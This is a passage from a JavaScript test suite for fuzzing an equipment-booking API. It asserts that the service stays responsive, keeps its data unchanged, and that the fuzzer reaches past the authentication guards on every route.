    expect(longestStall).toBeLessThanOrEqual(STALL_WITHIN_MS);
  });

  it('still answers GET /health with 200 afterwards', () => {
    expect(outcome.health).toEqual({ status: 200, body: { status: 'ok', db: 'up' } });
  });

  it('leaves equipment, hours, closures, manuals and bookings exactly as they were', () => {
    expect(outcome.after).toEqual(outcome.before);
  });

  it('gets past the guards on every route', () => {
    // A fuzzer stopped at the door tests nothing. Sign-out only ever sees forged or missing
    // tokens, because a real one would end the session the other requests use.
    const stuckAtGuards = [...outcome.statuses]
      .filter(([key]) => !key.endsWith('/logout'))
      .filter(([, byStatus]) => [...byStatus.keys()].every((s) => s === 401 || s === 403))
      .map(([key]) => key);
    expect(stuckAtGuards).toEqual([]);
  });
});
